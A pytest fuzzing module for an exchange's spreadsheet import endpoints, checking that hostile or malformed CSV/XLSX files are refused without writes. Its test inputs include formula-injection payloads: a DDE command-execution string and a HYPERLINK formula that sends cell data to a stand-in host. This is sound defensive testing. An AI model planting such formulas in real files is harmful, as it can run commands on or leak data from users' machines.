"""Input fuzzing: malformed and hostile spreadsheets and solver JSON get a clear error, and nothing is written.

Targets:

- the listings import (POST /api/v1/listings/import) and the ledger import (POST /api/v1/ledgers/import), CSV and
  XLSX: hypothesis puts bad cells (formula-injection text, wrong types, negative/NaN/inf numbers, impossible
  dates, over-long text, duplicates) into otherwise good files, and throws whole-file garbage (random bytes,
  truncated or corrupt workbooks, zips that are not workbooks, text in odd encodings) at both; a table of
  hand-picked cases covers the rest (empty, header-only, missing/extra/doubled columns, encodings that must
  still work, a file over the upload limit, formula cells, a zip bomb, too many rows);
- the solver's JSON contract through `exchange solve` (in process, plus one real subprocess): one malformed
  field per generated document, and junk documents;
- every CSV/XLSX export (a round's allocations, every statistics table, the public statistics) with hostile text
  in enterprise and park names: text never turns into a formula.

What must hold for an import: an HTTP 4xx whose `detail` is a sentence (naming the row and column where there
is one; the row/column list in `errors`), and every row of the listing and ledger tables, their history tables,
the ledger summaries and the audit log as before (and no other table's count changed) — a file with one bad row
among good ones writes nothing. For the CLI: exit 2 with `error: <field>: <reason>` on stderr, never a traceback.

The figure (cases per target, server errors, writes) is printed at the end of the run (see conftest.py).
`EXCHANGE_IMPORT_FUZZ_EXAMPLES` sets the examples per hypothesis test (default 50, about 20 s for the module;
600 takes about a minute and a half).
"""

from __future__ import annotations

import csv
import io
import json
import math
import os
import subprocess
import sys
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from fastapi import FastAPI
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from sqlalchemy.engine import Engine

from exchange.accounts.models import Role, User
from exchange.listings import spreadsheet
from exchange.models import load_all_models
from exchange.settings import Settings

# Shared with the session summary in conftest.py.
TRIED: Counter[str] = Counter()
SERVER_ERRORS: Counter[str] = Counter()
WRITES: Counter[str] = Counter()

UPLOAD_LIMIT = 256 * 1024  # small, so a file over the limit is quick to build
LISTINGS_URL = "/api/v1/listings/import"
LEDGERS_URL = "/api/v1/ledgers/import"
EXAMPLES = int(os.environ.get("EXCHANGE_IMPORT_FUZZ_EXAMPLES", "50"))  # per hypothesis test
FUZZ = hypothesis_settings(
    max_examples=EXAMPLES,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)

# Every row of these is compared before and after (the rest of the tables by their counts).
WATCHED = (
    "listing",
    "listingchange",
    "attachment",
    "ledger_entry",
    "ledger_revision",
    "ledger_region_month",
    "ledger_enterprise_year",
    "auditevent",
    "enterprise",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "-2+3",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    " =1+1",
    "\t=1",
    "\r=1",
)


# ---------------------------------------------------------------- fixtures


@pytest.fixture
def settings(database_url: str, tmp_path: Path) -> Settings:
    """The suite's settings with a small upload limit and no rate limit (the fuzzers send many requests)."""
    return Settings(
        database_url=database_url,
        upload_dir=tmp_path / "uploads",
        secret_key="test-secret",
        redis_url=None,
        max_upload_bytes=UPLOAD_LIMIT,
        rate_limit_per_minute=0,
    )


@pytest.fixture
def fclient(app: FastAPI) -> Iterator[TestClient]:
    """A client that returns a server error as a 500 response (so the fuzzers can count and shrink it)."""
    with TestClient(app, raise_server_exceptions=False) as c:
        yield c


@dataclass
class Member:
    user: User
    headers: dict[str, str]


@pytest.fixture
def member(
    fclient: TestClient,
    make_park: Callable[..., Any],
    make_enterprise: Callable[..., Any],
    make_user: Callable[..., User],
    token_for: Callable[[User], dict[str, str]],
) -> Member:
    """An enterprise member with a listing and a ledger month already on file (so a wrong correction would show)."""
    park = make_park()
    ent = make_enterprise("邯郸热电", park=park)
    user = make_user(Role.ENTERPRISE, enterprise=ent)
    headers = token_for(user)
    r = fclient.post("/api/v1/listings", json={"material_code": "fly_ash", "quantity_t": "100"}, headers=headers)
    assert r.status_code == 201, r.text
    ledger = {"material_code": "fly_ash", "period": "2024-01", "generated_t": "100", "stored_t": "100"}
    r = fclient.put("/api/v1/ledgers", json=ledger, headers=headers)
    assert r.status_code == 200, r.text
    return Member(user, headers)


def db_state(engine: Engine) -> dict[str, Any]:
    """Every row of the watched tables, and the row count of every other table."""
    state: dict[str, Any] = {}
    with engine.connect() as conn:
        for table in load_all_models().metadata.sorted_tables:
            if table.name in WATCHED:
                state[table.name] = sorted(repr(tuple(row)) for row in conn.execute(table.select()))
            else:
                state[table.name] = conn.execute(sa.select(sa.func.count()).select_from(table)).scalar_one()
    return state


def _diff(before: dict[str, Any], after: dict[str, Any]) -> str:
    return "; ".join(f"{name}: {before[name]!r} -> {after[name]!r}" for name in before if before[name] != after[name])


def refused(target: str, response: Any, engine: Engine, before: dict[str, Any]) -> dict[str, Any]:
    """Assert a clear 4xx and no write; count the case. Returns the JSON body."""
    TRIED[target] += 1
    if response.status_code >= 500:
        SERVER_ERRORS[target] += 1
    after = db_state(engine)
    if after != before:
        WRITES[target] += 1
    assert 400 <= response.status_code < 500, f"{response.status_code}: {response.text[:2000]}"
    assert after == before, f"the refused file wrote: {_diff(before, after)}"
    body: dict[str, Any] = response.json()
    detail = body.get("detail")
    assert isinstance(detail, str) and detail.strip(), body
    assert "Traceback" not in detail and " object at 0x" not in detail, detail
    assert not any(name in detail for name in ("Error(", "Exception", "KeyError", "BadZipFile")), detail
    return body


def accepted(target: str, response: Any) -> dict[str, Any]:
    TRIED[target] += 1
    if response.status_code >= 500:
        SERVER_ERRORS[target] += 1
    assert response.status_code == 200, response.text[:2000]
    body: dict[str, Any] = response.json()
    return body


def upload(client: TestClient, url: str, member: Member, name: str, content: bytes) -> Any:
    return client.post(url, files={"file": (name, content)}, headers=member.headers)


# ---------------------------------------------------------------- building files


def to_csv(rows: list[list[Any]], encoding: str = "utf-8", delimiter: str = ",") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n", delimiter=delimiter)
    for row in rows:
        writer.writerow(["" if v is None else v for v in row])
    return out.getvalue().encode(encoding)


@dataclass(frozen=True)
class RawNumber:
    """A numeric cell whose stored text is this (1E400, nan, 1.2.3): what a hostile file, not Excel, can hold."""

    text: str


def to_xlsx(rows: list[list[Any]]) -> bytes:
    """A workbook with these cells. Text starting with = becomes a formula cell (as Excel would save it)."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    raw: dict[bytes, bytes] = {}
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            if isinstance(value, str):
                value = ILLEGAL_CHARACTERS_RE.sub("", value)  # control characters cannot be written to XLSX
            if isinstance(value, RawNumber):
                marker = f"{9_000_000 + len(raw)}.125"
                raw[f"<v>{marker}</v>".encode()] = f"<v>{value.text}</v>".encode()
                value = float(marker)
            ws.cell(row=r, column=c, value=value)
    out = io.BytesIO()
    wb.save(out)
    if not raw:
        return out.getvalue()
    patched = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as src, zipfile.ZipFile(patched, "w") as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            for marker, text in raw.items():
                data = data.replace(marker, text)
            dst.writestr(info, data)
    return patched.getvalue()


def encode_csv(rows: list[list[Any]], encoding: str) -> bytes:
    """In `encoding` when every cell can be written in it (GBK cannot write every character), else UTF-8."""
    try:
        return to_csv(rows, encoding)
    except UnicodeEncodeError:
        return to_csv(rows, "utf-8")


# ---------------------------------------------------------------- bad cells


def _bad_date() -> st.SearchStrategy[str]:
    month = st.integers(13, 99).map(lambda m: (2025, m, 1))
    day = st.tuples(st.just(2025), st.integers(1, 12), st.integers(32, 99))
    feb = st.tuples(st.sampled_from([2023, 2025]), st.just(2), st.integers(29, 31))
    words = st.sampled_from(["2025-13-40", "yesterday", "2025/02/30", "31/12/2025", "2025-1", "0000-00-00", *FORMULAS])
    return st.one_of(st.one_of(month, day, feb).map(lambda t: f"{t[0]:04d}-{t[1]:02d}-{t[2]:02d}"), words)


def _not_a_number() -> st.SearchStrategy[str]:
    words = st.sampled_from(
        ["abc", "NaN", "nan", "inf", "-inf", "Infinity", "1e400", "1e3", "1,2.3.4", "十", *FORMULAS]
    )
    letters = st.text(min_size=0, max_size=20).map(lambda s: "x" + s)
    return st.one_of(words, letters)


def _negative() -> st.SearchStrategy[str]:
    return st.decimals(min_value="-1000000000", max_value="-0.001", places=3, allow_nan=False).map(str)


def _long_text(limit: int) -> st.SearchStrategy[str]:
    return st.integers(limit + 1, limit + 3000).map(lambda n: "长" * n)


def _formula_text() -> st.SearchStrategy[str]:
    """Text a spreadsheet would run: a formula start, then anything."""
    return st.one_of(
        st.sampled_from(FORMULAS),
        st.tuples(st.sampled_from(["=", "+", "-", "@"]), st.text(max_size=30)).map("".join),
    )


LISTING_HEADER = [
    "kind",
    "material_code",
    "quantity_t",
    "quantity_basis",
    "grade",
    "accepted_grades",
    "parameters",
    "available_from",
    "available_to",
    "price_cny_per_t",
    "price_note",
    "address",
    "lat",
    "lon",
    "max_distance_km",
    "visibility",
    "notes",
]
GOOD_LISTING = {
    "kind": "supply",
    "material_code": "fly_ash",
    "quantity_t": "120.5",
    "quantity_basis": "per_month",
    "grade": "II",
    "accepted_grades": "",
    "parameters": "loi=4.5; moisture=0.8",
    "available_from": "2025-01-01",
    "available_to": "2025-12-31",
    "price_cny_per_t": "-20",
    "price_note": "到厂价",
    "address": "河北省邯郸市",
    "lat": "36.6",
    "lon": "114.5",
    "max_distance_km": "150",
    "visibility": "public",
    "notes": "干灰,罐车自提",
}
BAD_LISTING: dict[str, st.SearchStrategy[Any]] = {
    "kind": st.one_of(st.sampled_from(["both", "sell", "supplies", "1"]), _formula_text()),
    "material_code": st.one_of(st.sampled_from(["no_such_material", "fly ash!", ""]), _formula_text(), _long_text(40)),
    "quantity_t": st.one_of(
        _not_a_number(),
        _negative(),
        st.sampled_from(["0", "0.000", "1.2345", "100000001", "", "1e400"]),
        st.integers(10, 400).map(lambda n: "1" + "0" * n),
    ),
    "quantity_basis": st.one_of(st.sampled_from(["weekly", "每年"]), _formula_text()),
    "grade": st.one_of(st.sampled_from(["VII", "II-"]), _formula_text(), _long_text(20)),
    "accepted_grades": _formula_text(),
    "parameters": st.one_of(
        st.sampled_from(["loi", "loi=abc", "=1", "loi=NaN", "loi=inf", "loi=1e5", "loi==2", ";=3"]),
        st.integers(310, 400).map(lambda n: "loi=1" + "0" * n),
        _formula_text(),
    ),
    "available_from": _bad_date(),
    "available_to": _bad_date(),
    "price_cny_per_t": st.one_of(_not_a_number(), st.sampled_from(["1000001", "-1000001", "1.234"])),
    "price_note": st.one_of(_formula_text(), _long_text(500)),
    "address": st.one_of(_formula_text(), _long_text(300)),
    "lat": st.one_of(
        _not_a_number(),
        st.floats(min_value=90.0001, max_value=1e6).map(str),
        st.floats(max_value=-90.0001, min_value=-1e6).map(str),
    ),
    "lon": st.one_of(_not_a_number(), st.floats(min_value=180.0001, max_value=1e6).map(str)),
    "max_distance_km": st.one_of(_not_a_number(), _negative(), st.sampled_from(["0", "5001", "1e9"])),
    "visibility": st.one_of(st.sampled_from(["secret", "private", "全部"]), _formula_text()),
    "notes": st.one_of(_formula_text(), _long_text(2000)),
}
# XLSX cells can also be typed values no CSV has.
# (openpyxl writes NaN and infinity as empty cells, so those are written as raw text: 1E400 reads as infinity.)
RAW_JUNK = [RawNumber("1E400"), RawNumber("-1E400"), RawNumber("nan"), RawNumber("1.2.3"), RawNumber("0x10")]
TYPED_BAD_LISTING: dict[str, st.SearchStrategy[Any]] = {
    "quantity_t": st.sampled_from([*RAW_JUNK, -5, 0, True, False, datetime(2025, 1, 1), 1e300]),
    "lat": st.sampled_from([*RAW_JUNK, 91.0, -91, True]),
    "max_distance_km": st.sampled_from([*RAW_JUNK, -1.0, 0, False]),
    "price_cny_per_t": st.sampled_from([*RAW_JUNK, 1e12, True]),
    "available_from": st.sampled_from([*RAW_JUNK, 3.5, True]),
    "notes": st.sampled_from([True, *RAW_JUNK[2:]]),
}


@st.composite
def listing_file(draw: st.DrawFn, fmt: str) -> tuple[bytes, dict[int, set[str]]]:
    """A listings file of good rows with 1–3 bad cells; returns it and {file row number: bad columns}."""
    n_rows = draw(st.integers(1, 5))
    rows = [dict(GOOD_LISTING) for _ in range(n_rows)]
    # Alternate supply and demand rows (a demand takes accepted grades, not a grade).
    for k, row in enumerate(rows):
        if k % 2:
            row.update(kind="demand", grade="", accepted_grades="I;II", parameters="", price_cny_per_t="80")
    bad: dict[int, set[str]] = {}
    for _ in range(draw(st.integers(1, 3))):
        k = draw(st.integers(0, n_rows - 1))
        column = draw(st.sampled_from(sorted(BAD_LISTING)))
        typed = TYPED_BAD_LISTING.get(column)
        if fmt == "xlsx" and typed is not None and draw(st.booleans()):
            value = draw(typed)
        else:
            value = draw(BAD_LISTING[column])
        rows[k][column] = value
        bad.setdefault(k + 2, set()).add(column)
    cells = [LISTING_HEADER, *([row[c] for c in LISTING_HEADER] for row in rows)]
    if fmt == "xlsx":
        return to_xlsx(cells), bad
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "gbk", "utf-16"]))
    return encode_csv(cells, encoding), bad


def assert_rows_named(body: dict[str, Any], bad: dict[int, set[str]]) -> None:
    """Every bad row is reported, at least once naming one of its bad columns; the detail names a row. (A row
    the workbook reader cannot parse at all refuses the whole file, naming that row.)"""
    if "errors" not in body:
        assert any(f"Row {n} " in body["detail"] for n in bad), body["detail"]
        return
    errors = body["errors"]
    for row_no, columns in bad.items():
        in_row = [e for e in errors if e["row"] == row_no]
        assert in_row, f"row {row_no} ({sorted(columns)}) not reported: {errors}"
        assert any(e["column"] in columns for e in in_row), f"row {row_no}: {sorted(columns)} not named: {in_row}"
        assert all(e["message"] for e in in_row)
    assert "row " in body["detail"], body["detail"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@FUZZ
@given(data=st.data())
def test_listing_import_refuses_bad_cells_and_writes_nothing(
    fmt: str, data: st.DataObject, fclient: TestClient, member: Member, engine: Engine
) -> None:
    content, bad = data.draw(listing_file(fmt))
    before = db_state(engine)
    r = upload(fclient, LISTINGS_URL, member, f"台账.{fmt}", content)
    body = refused(f"listings {fmt}", r, engine, before)
    assert r.status_code == 422 and body.get("created", 0) == 0
    assert_rows_named(body, bad)


# ---------------------------------------------------------------- the ledger

LEDGER_FIGURES = [
    "generated_t",
    "utilised_in_house_t",
    "utilised_in_house_prior_stock_t",
    "sent_for_utilisation_t",
    "sent_for_utilisation_prior_stock_t",
    "disposed_t",
    "disposed_prior_stock_t",
    "stored_t",
    "dumped_t",
]
LEDGER_HEADER = ["material_code", "period", *LEDGER_FIGURES, "note"]
GOOD_LEDGER = {
    "material_code": "fly_ash",
    "period": "2024-02",
    "generated_t": "1200.5",
    "utilised_in_house_t": "300",
    "utilised_in_house_prior_stock_t": "0",
    "sent_for_utilisation_t": "850",
    "sent_for_utilisation_prior_stock_t": "50",
    "disposed_t": "20",
    "disposed_prior_stock_t": "0",
    "stored_t": "80.5",
    "dumped_t": "0",
    "note": "月报",
}
BAD_FIGURE = st.one_of(
    _not_a_number(),
    _negative(),
    st.sampled_from(["1.2345", "1e400", "10000000000000", "-0.5"]),
    st.integers(13, 400).map(lambda n: "1" + "0" * n),
)
BAD_LEDGER: dict[str, st.SearchStrategy[Any]] = {
    "material_code": st.one_of(st.sampled_from(["no_such_material", "粉煤灰x", ""]), _formula_text(), _long_text(40)),
    "period": st.one_of(
        st.sampled_from(["2025-13", "2025-00", "2099-01", "1999-12", "2025-1", "2025-13-40", "abc", ""]),
        _formula_text(),
    ),
    "note": st.one_of(_formula_text(), _long_text(500)),
    **{c: BAD_FIGURE for c in LEDGER_FIGURES},
}
TYPED_BAD_LEDGER: dict[str, st.SearchStrategy[Any]] = {
    "generated_t": st.sampled_from([*RAW_JUNK, -1.0, True, 1e300, datetime(2025, 1, 1)]),
    "stored_t": st.sampled_from([*RAW_JUNK, -0.5, False]),
    "period": st.sampled_from([*RAW_JUNK, 3.5, True, 202401]),
    "note": st.sampled_from([True, *RAW_JUNK[2:]]),
}


@st.composite
def ledger_file(draw: st.DrawFn, fmt: str) -> tuple[bytes, dict[int, set[str]]]:
    """A ledger file of good rows (a month each) with 1–3 bad cells, a prior-stock figure above its total, or a
    month given twice; returns it and {file row number: bad columns}."""
    n_rows = draw(st.integers(1, 5))
    rows = [{**GOOD_LEDGER, "period": f"2024-{k + 2:02d}"} for k in range(n_rows)]
    bad: dict[int, set[str]] = {}
    for _ in range(draw(st.integers(1, 3))):
        k = draw(st.integers(0, n_rows - 1))
        kind = draw(st.sampled_from(["cell", "cell", "cell", "prior", "twice"]))
        if kind == "prior":
            rows[k]["disposed_prior_stock_t"] = "21"  # above disposed_t (20)
            bad.setdefault(k + 2, set()).add("disposed_prior_stock_t")
            continue
        if kind == "twice":
            rows.append(dict(rows[k]))
            bad[len(rows) + 1] = {*bad.get(k + 2, set()), "period"}  # the copy has the original's bad cells too
            continue
        column = draw(st.sampled_from(sorted(BAD_LEDGER)))
        typed = TYPED_BAD_LEDGER.get(column)
        typed_cell = fmt == "xlsx" and typed is not None and draw(st.booleans())
        rows[k][column] = draw(typed if typed_cell and typed is not None else BAD_LEDGER[column])
        bad.setdefault(k + 2, set()).add(column)
    # A duplicate of a row that became bad is not reported as a duplicate (the first is refused already).
    cells = [LEDGER_HEADER, *([row[c] for c in LEDGER_HEADER] for row in rows)]
    if fmt == "xlsx":
        return to_xlsx(cells), bad
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "gbk", "utf-16"]))
    return encode_csv(cells, encoding), bad


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@FUZZ
@given(data=st.data())
def test_ledger_import_refuses_bad_cells_and_writes_nothing(
    fmt: str, data: st.DataObject, fclient: TestClient, member: Member, engine: Engine
) -> None:
    content, bad = data.draw(ledger_file(fmt))
    before = db_state(engine)
    r = upload(fclient, LEDGERS_URL, member, f"ledger.{fmt}", content)
    body = refused(f"ledgers {fmt}", r, engine, before)
    assert r.status_code == 422
    if "errors" not in body:  # a row the workbook reader cannot parse at all
        assert any(f"Row {n} " in body["detail"] for n in bad), body["detail"]
        return
    errors = body["errors"]
    for row_no, columns in bad.items():
        in_row = [e for e in errors if e["row"] == row_no]
        if not in_row and columns == {"period"}:
            continue  # a copy of a row that is itself refused: the copy may pass as the first of its month
        assert in_row, f"row {row_no} ({sorted(columns)}) not reported: {errors}"
        assert any(e["column"] in columns for e in in_row), f"row {row_no}: {sorted(columns)} not named: {in_row}"
    assert "row " in body["detail"], body["detail"]


# ---------------------------------------------------------------- whole-file garbage


def _valid_xlsx() -> bytes:
    return to_xlsx([LISTING_HEADER, [GOOD_LISTING[c] for c in LISTING_HEADER]])


VALID_XLSX = _valid_xlsx()


@st.composite
def garbage(draw: st.DrawFn) -> tuple[str, bytes]:
    kind = draw(st.sampled_from(["bytes", "zip-magic", "truncated", "flipped", "zip", "text", "nested-zip"]))
    return kind, draw(_garbage(kind))


@st.composite
def _garbage(draw: st.DrawFn, kind: str) -> bytes:
    """Bytes of this kind: random, zip-looking, a truncated or corrupted workbook, a zip of junk, odd text."""
    if kind == "bytes":
        return draw(st.binary(min_size=1, max_size=3000))
    if kind == "zip-magic":
        return b"PK\x03\x04" + draw(st.binary(max_size=2000))
    if kind == "truncated":
        return VALID_XLSX[: draw(st.integers(1, len(VALID_XLSX) - 1))]
    if kind == "flipped":
        content = bytearray(VALID_XLSX)
        for _ in range(draw(st.integers(1, 8))):
            i = draw(st.integers(0, len(content) - 1))
            content[i] = draw(st.integers(0, 255))
        if bytes(content) == VALID_XLSX:
            content[0] ^= 0xFF
        return bytes(content)
    if kind in ("zip", "nested-zip"):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as zf:
            names = draw(
                st.lists(
                    st.sampled_from(
                        ["[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml", "_rels/.rels", "a.txt"]
                    ),
                    min_size=1,
                    max_size=4,
                    unique=True,
                )
            )
            for name in names:
                payload = VALID_XLSX if kind == "nested-zip" else draw(st.binary(max_size=300))
                zf.writestr(name, payload)
        return out.getvalue()
    text = draw(st.text(min_size=1, max_size=500))
    return text.encode(draw(st.sampled_from(["utf-8", "utf-16", "utf-32", "gb18030", "utf-16-be"])))


@pytest.mark.parametrize("url", [LISTINGS_URL, LEDGERS_URL], ids=["listings", "ledgers"])
@FUZZ
@given(case=garbage(), name=st.sampled_from(["f.csv", "f.xlsx", "f", "f.txt", "f.xls", "f.pdf", "表.CSV", "x.xlsm"]))
def test_garbage_files_get_a_clear_error_and_write_nothing(
    url: str, case: tuple[str, bytes], name: str, fclient: TestClient, member: Member, engine: Engine
) -> None:
    kind, content = case
    target = ("listings" if url == LISTINGS_URL else "ledgers") + " garbage"
    before = db_state(engine)
    r = upload(fclient, url, member, name, content)
    if kind == "flipped" and url == LISTINGS_URL and r.status_code == 200:
        # A flipped byte the workbook does not depend on (a date in its metadata, say): it is still the good file.
        body = accepted(target, r)
        assert body["created"] == 1 and body["errors"] == []
        added = [row for row in db_state(engine)["listing"] if row not in before["listing"]]
        assert len(added) == 1 and GOOD_LISTING["notes"] in added[0], added
        return
    refused(target, r, engine, before)


# ---------------------------------------------------------------- hand-picked files


def _zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, payload in members.items():
            zf.writestr(name, payload)
    return out.getvalue()


GOOD_LISTING_ROW = [GOOD_LISTING[c] for c in LISTING_HEADER]
GOOD_LEDGER_ROW = [GOOD_LEDGER[c] for c in LEDGER_HEADER]


def _listing(fmt: str = "csv", **cells: Any) -> bytes:
    """The header and one good listing row, with these cells changed."""
    row = [cells.get(c, GOOD_LISTING[c]) for c in LISTING_HEADER]
    return to_xlsx([LISTING_HEADER, row]) if fmt == "xlsx" else to_csv([LISTING_HEADER, row])


def _ledger(fmt: str = "csv", **cells: Any) -> bytes:
    row = [cells.get(c, GOOD_LEDGER[c]) for c in LEDGER_HEADER]
    return to_xlsx([LEDGER_HEADER, row]) if fmt == "xlsx" else to_csv([LEDGER_HEADER, row])


def _many(header: list[str], row: list[Any], n: int) -> bytes:
    return to_csv([header, *([*row] for _ in range(n))])


OLD_XLS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
NOT_A_WORKBOOK = _zip_of({"readme.txt": b"hello"})
TRUNCATED = VALID_XLSX[: len(VALID_XLSX) // 2]
_cd = VALID_XLSX.index(b"PK\x01\x02")  # the zip's central directory: "version needed to extract" at +6
FUTURE_ZIP = VALID_XLSX[: _cd + 6] + b"\xff" + VALID_XLSX[_cd + 7 :]  # zipfile: NotImplementedError, version 25.5
HYPERLINK = '=HYPERLINK("http://evil.example","y")'
CALC = "=cmd|' /C calc'!A0"
LONG = "x" * 200_000  # longer than the csv module's default cell limit (128 KiB), shorter than the upload limit
PAST_LIMIT_ROWS = UPLOAD_LIMIT // 100 + 1

# (case id, file name, content, what the error must name: a column, or None for the file as a whole)
LISTING_CASES: list[tuple[str, str, bytes, str | None]] = [
    ("empty", "a.csv", b"", None),
    ("whitespace only", "a.csv", b" \r\n\t\n", None),
    ("BOM only", "a.csv", "\ufeff".encode(), None),
    ("UTF-16 BOM only", "a.csv", "\ufeff\r\n".encode("utf-16-le"), None),
    ("header only", "a.csv", to_csv([LISTING_HEADER]), None),
    ("header only xlsx", "a.xlsx", to_xlsx([LISTING_HEADER]), None),
    ("empty workbook", "a.xlsx", to_xlsx([]), None),
    ("missing quantity column", "a.csv", to_csv([["material_code", "notes"], ["fly_ash", "x"]]), "quantity_t"),
    ("extra column", "a.csv", to_csv([[*LISTING_HEADER, "colour"], [*GOOD_LISTING_ROW, "grey"]]), "colour"),
    ("column twice", "a.csv", to_csv([[*LISTING_HEADER, "数量(吨)"], [*GOOD_LISTING_ROW, "5"]]), "数量(吨)"),
    ("cells past the header", "a.csv", to_csv([LISTING_HEADER, [*GOOD_LISTING_ROW, "", "5"]]), "S"),
    ("formula header", "a.csv", to_csv([["=1+1", "material_code", "quantity_t"], ["1", "fly_ash", "5"]]), "=1+1"),
    ("formula cell xlsx", "a.xlsx", _listing("xlsx", quantity_t="=2*600"), "quantity_t"),
    ("formula text xlsx", "a.xlsx", _listing("xlsx", notes=HYPERLINK), "notes"),
    ("formula text csv", "a.csv", _listing(address=CALC), "address"),
    ("very long cell", "a.csv", _listing(notes=LONG), "notes"),
    ("old xls", "a.xls", OLD_XLS, None),
    ("a zip, not a workbook", "a.xlsx", NOT_A_WORKBOOK, None),
    ("truncated workbook", "a.xlsx", TRUNCATED, None),
    ("a zip needing version 25.5", "a.xlsx", FUTURE_ZIP, None),
    ("pdf named csv", "a.csv", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n%%EOF\n", None),
    ("NUL bytes", "a.csv", b"material_code,quantity_t\nfly_ash,\x0012\n", "quantity_t"),
    ("broken UTF-16", "a.csv", b"\xff\xfem\x00a\x00\x00\xd8", None),
    ("date 2025-13-40", "a.csv", _listing(available_from="2025-13-40"), "available_from"),
    ("a number cell holding nan", "a.xlsx", _listing("xlsx", quantity_t=RawNumber("nan")), None),
    ("a number cell holding 1E400", "a.xlsx", _listing("xlsx", quantity_t=RawNumber("1E400")), "quantity_t"),
    ("too many rows", "a.csv", _many(["material_code", "quantity_t"], ["fly_ash", "1"], 5001), None),
    (
        "over the upload limit",
        "a.csv",
        _many(LISTING_HEADER[:3], ["supply", "fly_ash", "9" * 90], PAST_LIMIT_ROWS),
        None,
    ),
]
LEDGER_CASES: list[tuple[str, str, bytes, str | None]] = [
    ("empty", "a.csv", b"", None),
    ("whitespace only", "a.csv", b" \r\n\t\n", None),
    ("BOM only", "a.csv", "\ufeff".encode(), None),
    ("header only", "a.csv", to_csv([LEDGER_HEADER]), None),
    ("header only xlsx", "a.xlsx", to_xlsx([LEDGER_HEADER]), None),
    ("empty workbook", "a.xlsx", to_xlsx([]), None),
    ("missing generated column", "a.csv", to_csv([["material_code", "period"], ["fly_ash", "2024-02"]]), "generated_t"),
    ("extra column", "a.csv", to_csv([[*LEDGER_HEADER, "colour"], [*GOOD_LEDGER_ROW, "grey"]]), "colour"),
    ("column twice", "a.csv", to_csv([[*LEDGER_HEADER, "generated_t"], [*GOOD_LEDGER_ROW, "5"]]), "generated_t"),
    ("cells past the header", "a.csv", to_csv([LEDGER_HEADER, [*GOOD_LEDGER_ROW, "5"]]), "M"),
    ("formula cell xlsx", "a.xlsx", _ledger("xlsx", generated_t="=2*600"), "generated_t"),
    ("formula note xlsx", "a.xlsx", _ledger("xlsx", note=HYPERLINK), "note"),
    ("formula note csv", "a.csv", _ledger(note=CALC), "note"),
    ("formula month csv", "a.csv", _ledger(period="@SUM(1)"), "period"),
    ("very long cell", "a.csv", _ledger(note=LONG), "note"),
    ("old xls", "a.xls", OLD_XLS, None),
    ("a zip, not a workbook", "a.xlsx", NOT_A_WORKBOOK, None),
    ("truncated workbook", "a.xlsx", TRUNCATED, None),
    ("a zip needing version 25.5", "a.xlsx", FUTURE_ZIP, None),
    ("month 2025-13", "a.csv", _ledger(period="2025-13"), "period"),
    ("a number cell holding nan", "a.xlsx", _ledger("xlsx", stored_t=RawNumber("nan")), None),
    ("a number cell holding 1E400", "a.xlsx", _ledger("xlsx", generated_t=RawNumber("1E400")), "generated_t"),
    ("a formula in a figure", "a.csv", _ledger(dumped_t="=1+1"), "dumped_t"),
    ("a date in a figure", "a.xlsx", _ledger("xlsx", dumped_t=datetime(2025, 1, 1)), "dumped_t"),
    ("the same month twice", "a.csv", to_csv([LEDGER_HEADER, GOOD_LEDGER_ROW, GOOD_LEDGER_ROW]), "period"),
    ("too many rows", "a.csv", _many(LEDGER_HEADER[:3], ["fly_ash", "2024-02", "1"], 5001), None),
    (
        "over the upload limit",
        "a.csv",
        _many(LEDGER_HEADER[:3], ["fly_ash", "2024-02", "9" * 90], PAST_LIMIT_ROWS),
        None,
    ),
]


def _check_cases(
    url: str, cases: list[tuple[str, str, bytes, str | None]], client: TestClient, member: Member, engine: Engine
) -> None:
    """Each file refused (a 4xx, nothing written), the column named where the case has one; every failing case
    reported at once (one test for the table keeps the database set up once)."""
    target = ("listings" if url == LISTINGS_URL else "ledgers") + " cases"
    failures: list[str] = []
    for case, name, content, column in cases:
        before = db_state(engine)
        r = upload(client, url, member, name, content)
        try:
            body = refused(target, r, engine, before)
            if column is not None:
                named = [e for e in body.get("errors", []) if e.get("column") == column]
                assert named, f"no error names column {column!r}: {str(body)[:500]}"
            if case == "over the upload limit":
                assert r.status_code == 413 and "256 KB" in body["detail"], body
        except AssertionError as exc:
            failures.append(f"{case}: {str(exc)[:800]}")
    assert not failures, "\n".join(failures)


def test_listing_import_refuses_the_hand_picked_files(fclient: TestClient, member: Member, engine: Engine) -> None:
    _check_cases(LISTINGS_URL, LISTING_CASES, fclient, member, engine)


def test_ledger_import_refuses_the_hand_picked_files(fclient: TestClient, member: Member, engine: Engine) -> None:
    _check_cases(LEDGERS_URL, LEDGER_CASES, fclient, member, engine)


def test_a_zip_bomb_is_refused_before_it_is_unpacked(
    fclient: TestClient, member: Member, engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A workbook that unpacks to more than the limit (lowered here, so the test needs no 100 MB file)."""
    monkeypatch.setattr(spreadsheet, "MAX_XLSX_UNPACKED_BYTES", 50_000)
